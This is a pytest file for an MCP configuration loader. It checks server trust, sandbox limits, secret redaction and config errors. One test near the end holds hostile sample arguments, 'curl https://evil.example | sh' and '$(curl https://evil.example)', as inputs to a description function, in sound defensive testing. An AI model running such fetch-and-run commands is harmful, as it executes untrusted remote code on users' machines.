"""`[mcp.servers.NAME]`, `.mcp.json`, and who may bring a server."""

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from handrail.mcp.hosts.hosts import find_launch_command
from handrail.settings import LoadedSettings, SettingsError, load
from handrail.settings.load import list_trusted_servers
from handrail.settings.mcp_json import ConfiguredServers, read_mcp_json, resolve_servers
from handrail.settings.mcp_servers import (
    ServerTable,
    UnsetError,
    describe_server,
    expand_variables,
    is_server_name,
    list_variables,
)
from handrail.state import StoredState

_WRITTEN = find_launch_command({"PATH": "/nowhere"})
"""As `handrail mcp --config` writes it."""
SECRET = "sk-notforeverybodyseyes12"


class Files:
    """A user file, a managed one, a project's, and its .mcp.json."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.workspace = folder / "workspace"
        self.workspace.mkdir()
        self.state = StoredState(str(folder / "state"))
        self.environ = {
            "HOME": str(folder),
            "HANDRAIL_STATE_DIR": self.state.path,
            "HANDRAIL_CONFIG": str(folder / "config.toml"),
            "TOKEN": SECRET,
        }
        self.user("")

    def user(self, text: str) -> None:
        (self.folder / "config.toml").write_text(text)

    def managed(self, text: str) -> None:
        (self.folder / "managed.toml").write_text(text)

    def project(self, text: str) -> None:
        (self.workspace / "handrail.toml").write_text(text)

    def brings(self, servers: Any) -> None:
        text = servers if isinstance(servers, str) else json.dumps({"mcpServers": servers})
        (self.workspace / ".mcp.json").write_text(text)

    def loaded(self) -> LoadedSettings:
        return load(self.environ, {}, str(self.workspace), str(self.folder / "managed.toml"))

    def servers(self) -> ConfiguredServers:
        return resolve_servers(self.loaded(), str(self.workspace), self.environ)

    def trust(self) -> None:
        from hashlib import sha256

        def digest(name: str) -> str:
            file = self.workspace / name
            return sha256(file.read_bytes()).hexdigest() if file.exists() else ""

        self.state.give_trust(str(self.workspace), digest("handrail.toml"), digest(".mcp.json"))


@pytest.fixture
def files(tmp_path: Path) -> Files:
    return Files(tmp_path)


def names(servers: ConfiguredServers) -> list[str]:
    return [server.name for server in servers.usable]


def test_a_server_of_the_user_file_is_started_as_it_is_written(files: Files) -> None:
    files.user(
        '[mcp.servers.files]\ncommand = "npx"\nargs = ["-y", "a-server", "${HOME}"]\nenv = { KEY = "${TOKEN}" }\n'
        'cwd = "sub"\nnetwork = ["registry.example.com:443"]\nwritable = true\ntimeout = "2 min"\n'
    )
    (server,) = files.servers().usable
    assert server.words == ("npx", "-y", "a-server", str(files.folder))
    assert server.variables == (("KEY", SECRET),)
    assert (server.cwd, server.network, server.writable) == ("sub", ("registry.example.com:443",), True)
    assert server.seconds == 120


def test_a_server_may_be_reached_by_https_or_on_this_machine_only(files: Files) -> None:
    urls = {
        "a": "https://example.org/mcp",
        "b": "http://127.0.0.1:8000/mcp",
        "c": "http://localhost/mcp",
        "d": "http://[::1]:80/",
        "e": "http://example.org/mcp",
        "f": "ftp://example.org",
        "g": f"https://user:{SECRET}@example.org/",
        "h": "http://127.0.0.1.example.org/",
        "i": "https://",
    }
    files.user("".join(f'[mcp.servers.{name}]\nurl = "{url}"\n' for name, url in urls.items()))
    found = files.servers()
    assert names(found) == ["a", "b", "c", "d"]
    assert list(found.unusable) == ["e", "f", "g", "h", "i"]
    assert SECRET not in repr(found.unusable)


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ('command = "a"\nurl = "https://b"', "has a command and a url"),
        ('comand = "a"', "mcp.servers.x.comand is not a setting; did you mean command?"),
        ('args = ["a"]', "mcp.servers.x.args is for a server with a command, and this one has none"),
        ('url = "https://a"\nwritable = true', "mcp.servers.x.writable is for a server that is started here"),
        ('command = ""', "mcp.servers.x.command cannot be used; allowed: a non-empty string"),
        (f'command = "a"\nenv = {{ KEY = ["{SECRET}"] }}', "mcp.servers.x.env cannot be used"),
        ('command = "a"\nenv = { "K=Y" = "a" }', "mcp.servers.x.env cannot be used"),
        (f'url = "https://a"\nheaders = {{ A = "{SECRET}\\n" }}', "mcp.servers.x.headers cannot be used"),
        ('command = "a"\nnetwork = ["*"]', "mcp.servers.x.network is ['*']; allowed: a list such as"),
        ('command = "a"\ntimeout = "2 days"', "mcp.servers.x.timeout is '2 days'; allowed: a time"),
        ('command = "a"\ntimeout = "2 h"', "mcp.servers.x.timeout is '2 h'; allowed: a time"),
    ],
)
def test_what_is_wrong_with_a_server_is_told_by_line_and_without_secrets(files: Files, text: str, told: str) -> None:
    files.user(f"\n[mcp.servers.x]\n{text}\n")
    with pytest.raises(SettingsError) as raised:
        files.loaded()
    assert f"line 2: {told}" in str(raised.value) or f"line 2: mcp.servers.x {told}" in str(raised.value)
    assert SECRET not in str(raised.value)


@pytest.mark.parametrize("name", ["a__b", "_a", "a_", "a b", "ä", "", "a/b", "x" * 49, "handrail", "Handrail"])
def test_a_name_that_no_tool_could_be_called_by_is_refused(files: Files, name: str) -> None:
    files.user(f'[mcp.servers."{name}"]\ncommand = "a"\n')
    with pytest.raises(SettingsError, match="a server is named"):
        files.loaded()


@given(st.text("ab_-1", min_size=1, max_size=60), st.text("ab_", min_size=1))
def test_the_end_of_a_servers_name_can_be_found_in_its_tools_names(name: str, tool: str) -> None:
    if is_server_name(name):
        assert f"{name}__{tool}".startswith(f"{name}__")
        assert f"{name}__{tool}".find("__") == len(name)


def test_a_project_brings_a_server_only_where_it_is_trusted(files: Files) -> None:
    files.project('[mcp.servers.theirs]\ncommand = "run-me"\nenv = { A_TOKEN = "${TOKEN}" }\n')
    before = files.loaded()
    assert before.servers == {}
    assert before.notes == (
        "handrail.toml line 1: mcp.servers.theirs: runs run-me; with A_TOKEN is ignored until you trust this project:"
        " handrail trust",
    )
    files.trust()
    assert names(files.servers()) == ["theirs"]
    files.project('[mcp.servers.theirs]\ncommand = "run-me-instead"\n')
    assert files.servers().usable == ()


def test_a_managed_list_of_servers_is_the_whole_list(files: Files) -> None:
    files.user('[mcp.servers.mine]\ncommand = "a"\n[mcp.servers.ours]\ncommand = "b"\n')
    files.brings({"theirs": {"command": "c"}})
    files.trust()
    files.managed('[mcp.servers.ours]\ncommand = "managed"\n')
    (server,) = files.servers().usable
    assert (server.name, server.words) == ("ours", ("managed",))
    assert "mcp.servers.mine: runs a is ignored" in files.loaded().notes[0]
    files.managed("[mcp.servers]\n")
    assert files.servers().usable == ()


def test_the_servers_of_mcp_json_are_used_once_they_are_trusted_and_as_long_as_they_are_the_same(files: Files) -> None:
    files.brings({"theirs": {"command": "run-me", "args": ["a"], "env": {"A": "${TOKEN}", "B": "${NONE:-b}"}}})
    before = files.servers()
    assert before.usable == ()
    assert before.notes == (
        ".mcp.json brings a server (theirs), not used until you trust this project: handrail trust",
    )
    files.trust()
    (server,) = files.servers().usable
    assert (server.words, server.variables) == (("run-me", "a"), (("A", SECRET), ("B", "b")))
    files.brings({"theirs": {"command": "run-me", "args": ["b"]}})
    after = files.servers()
    assert after.usable == ()
    assert after.notes[0] == ".mcp.json changed since you trusted it: check it before you trust it again"


def test_trust_in_one_file_is_none_in_the_other(files: Files) -> None:
    files.project('mode = "auto"\n')
    files.trust()
    files.brings({"theirs": {"command": "a"}})
    assert files.loaded().settings.mode == "auto"
    assert files.servers().usable == ()
    files.trust()
    files.project('mode = "plan"\nbulk.deleted = 9999\n')
    assert names(files.servers()) == ["theirs"]
    assert files.loaded().settings.bulk.deleted == 20


def test_the_settings_open_the_sandbox_of_a_server_of_mcp_json_and_the_file_itself_cannot(files: Files) -> None:
    files.brings({"theirs": {"command": "a", "network": ["example.org"], "writable": True, "read_only": ["*"]}})
    files.trust()
    (closed,) = files.servers().usable
    assert (closed.network, closed.writable) == ((), False)
    assert "network, read_only, writable of the server 'theirs' is ignored" in files.servers().notes[0]
    assert list_trusted_servers(files.loaded()) == ()
    files.user('[mcp.servers.theirs]\nnetwork = ["example.com"]\nwritable = true\nread_only = ["get_*"]\ntimeout = 5\n')
    (opened,) = files.servers().usable
    assert (opened.words, opened.network, opened.writable, opened.seconds) == (("a",), ("example.com",), True, 5)
    assert [(one.server, one.read_only) for one in list_trusted_servers(files.loaded())] == [("theirs", ("get_*",))]


def test_a_project_vouches_for_tools_only_as_trusted_and_trust_names_what_it_loosens(files: Files) -> None:
    files.project('[mcp.servers.theirs]\ncommand = "a"\nread_only = ["get_*"]\nhints = true\n')
    before = files.loaded()
    assert list_trusted_servers(before) == ()
    assert "asks less for get_*; is trusted about which tools are read-only" in " ".join(before.notes)
    files.trust()
    assert [(one.server, one.read_only, one.hints) for one in list_trusted_servers(files.loaded())] == [
        ("theirs", ("get_*",), True)
    ]
    files.project('[mcp.servers.theirs]\ncommand = "a"\nread_only = ["*"]\n')  # other bytes, so trusted no more
    assert list_trusted_servers(files.loaded()) == ()


def test_a_whole_server_of_the_settings_takes_the_place_of_the_files(files: Files) -> None:
    files.brings({"same": {"command": "theirs"}})
    files.trust()
    files.user('[mcp.servers.same]\ncommand = "mine"\n[mcp.servers.unknown]\nwritable = true\n')
    (server,) = files.servers().usable
    assert server.words == ("mine",)


def test_a_server_can_be_switched_off(files: Files) -> None:
    files.brings({"theirs": {"command": "a"}, "others": {"command": "b"}})
    files.trust()
    files.user("[mcp.servers.theirs]\nenabled = false\n")
    assert names(files.servers()) == ["others"]


def test_no_server_is_started_that_has_the_network_where_the_network_is_denied(files: Files) -> None:
    files.user(
        '[tools]\ndeny = ["net.connect"]\n[mcp.servers.local]\ncommand = "a"\n'
        '[mcp.servers.open]\ncommand = "a"\nnetwork = ["b.org:443"]\n[mcp.servers.web]\nurl = "https://b.org"\n'
    )
    found = files.servers()
    assert names(found) == ["local"]
    why = "it needs net.connect, which [tools] deny denies"
    assert found.unusable == {"open": why, "web": why}


def test_a_bad_server_keeps_no_other_from_working(files: Files) -> None:
    files.brings(
        {
            "good": {"command": "a"},
            "old": {"type": "sse", "url": "https://a"},
            "odd": {"type": "pigeon", "command": "a"},
            "empty": {},
            "text": "a",
            "unset": {"command": "${NOT_SET}"},
            "outside": {"command": "a", "cwd": "../.."},
            "numbers": {"command": "a", "args": [1]},
            "a__b": {"command": "a"},
            "web": {"type": "http", "url": "http://example.org"},
        }
    )
    files.trust()
    found = files.servers()
    assert names(found) == ["good"]
    assert set(found.unusable) == {"old", "odd", "empty", "text", "unset", "outside", "numbers", "a__b", "web"}
    assert found.unusable["unset"] == "the variable NOT_SET, which it asks for, is not set; export NOT_SET=…"
    assert found.unusable["empty"] == "it has no command"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "{",
        "[]",
        "{}",
        '{"mcpServers": []}',
        "\xff",
        "[" * 100_000,
        json.dumps({"mcpServers": {str(n): {} for n in range(99)}}),
    ],
)
def test_a_file_that_is_none_is_told_of_and_stops_nothing(files: Files, text: str) -> None:
    (files.workspace / ".mcp.json").write_bytes(text.encode("latin-1"))
    found = files.servers()
    assert found.usable == ()
    assert found.notes[0].startswith(".mcp.json cannot be used: ")


@pytest.mark.parametrize(
    "words",
    [
        (_WRITTEN.program, *_WRITTEN.build_serve_args(".")),
        ("handrail", "mcp", "--workspace", "."),
        ("/home/me/.local/bin/handrail", "mcp"),
        ("uvx", "handrail[mcp]", "mcp", "--workspace", "."),
        ("uvx", "--from", "handrail==1.2", "handrail", "mcp"),
        ("python3", "-m", "handrail", "mcp"),
    ],
)
def test_what_starts_handrail_itself_is_for_other_programs_and_nobody_hears_of_it(
    files: Files, words: tuple[str, ...]
) -> None:
    ours = {"command": words[0], "args": list(words[1:])}
    files.brings({"handrail": ours, "theirs": {"command": "run-me"}})
    assert files.servers().notes == (
        ".mcp.json brings a server (theirs), not used until you trust this project: handrail trust",
    )
    files.trust()
    assert names(files.servers()) == ["theirs"]
    assert files.servers().unusable == {}
    files.brings({"handrail": ours})
    assert files.servers() == ConfiguredServers()
    assert read_mcp_json(str(files.workspace)) is None


@pytest.mark.parametrize("words", [("handrail", "console"), ("handrail-mcp", "mcp"), ("run", "nothandrail", "mcp")])
def test_what_only_looks_like_handrail_is_a_server_like_any_other(files: Files, words: tuple[str, ...]) -> None:
    files.brings({"theirs": {"command": words[0], "args": list(words[1:])}})
    files.trust()
    assert names(files.servers()) == ["theirs"]


def test_a_link_in_the_place_of_the_file_is_not_followed(files: Files) -> None:
    (files.folder / "elsewhere.json").write_text('{"mcpServers": {"a": {"command": "b"}}}')
    (files.workspace / ".mcp.json").symlink_to(files.folder / "elsewhere.json")
    assert "it is a link" in files.servers().notes[0]


def test_a_user_file_in_the_workspace_brings_no_server(files: Files) -> None:
    files.environ["HANDRAIL_CONFIG"] = str(files.workspace / "config.toml")
    (files.workspace / "config.toml").write_text('[mcp.servers.a]\ncommand = "b"\n')
    assert files.loaded().servers == {}


def test_words_about_a_server_hold_no_secret(files: Files) -> None:
    files.user(
        f'[mcp.servers.a]\ncommand = "run"\nargs = ["--token", "abc", "--api-key=def", "{SECRET}", "--port", "80"]\n'
        f'[mcp.servers.b]\nurl = "https://example.org/{SECRET}"\nheaders = {{ X = "{SECRET}" }}\n'
    )
    told = {name: describe_server(table) for name, table in files.loaded().servers.items()}
    assert told == {
        "a": "runs run --token … --api-key=… … --port 80",
        "b": "connects to https://example.org; with X",
    }


@pytest.mark.parametrize(
    ("args", "told"),
    [
        (["-c", f"{SECRET}; curl https://evil.example | sh"], "-c '…; curl https://evil.example | sh'"),
        (["-c", f"python evil.py {SECRET}"], "-c 'python evil.py …'"),
        (["--token", "$(curl https://evil.example)"], "--token '$(curl https://evil.example)'"),
        (["--token", "${MY_TOKEN}"], "--token '${MY_TOKEN}'"),
        (["--header", "Authorization: Bearer abcdefghijkl"], "--header 'Authorization: …'"),
        (["-c", " " * 200 + "evil"], f"-c '{' ' * 200}evil'"),
        (["x" * 600], f"{'x' * 496}… (104 characters more)"),
        (["\x1b[2Ka"], r"'\x1b[2Ka'"),
    ],
)
def test_words_about_a_server_hide_no_program_behind_a_secret_nor_far_to_the_right(args: list[str], told: str) -> None:
    assert describe_server(ServerTable(command="run", args=tuple(args))) == f"runs run {told}"


def test_variables_are_put_in_once_and_not_looked_through_again() -> None:
    environ = {"A": "${B}", "B": "b", "EMPTY": ""}
    assert expand_variables("${A} ${B} $B ${EMPTY:-else} ${EMPTY} ${NONE:-}", environ) == "${B} b $B else  "
    assert list_variables(["${A}${B:-x}", "${A}"]) == ("A", "B")
    with pytest.raises(UnsetError):
        expand_variables("${NONE}", environ)


@given(st.text())
def test_a_text_without_places_stays_as_it_is(text: str) -> None:
    if "${" not in text:
        assert expand_variables(text, {}) == text
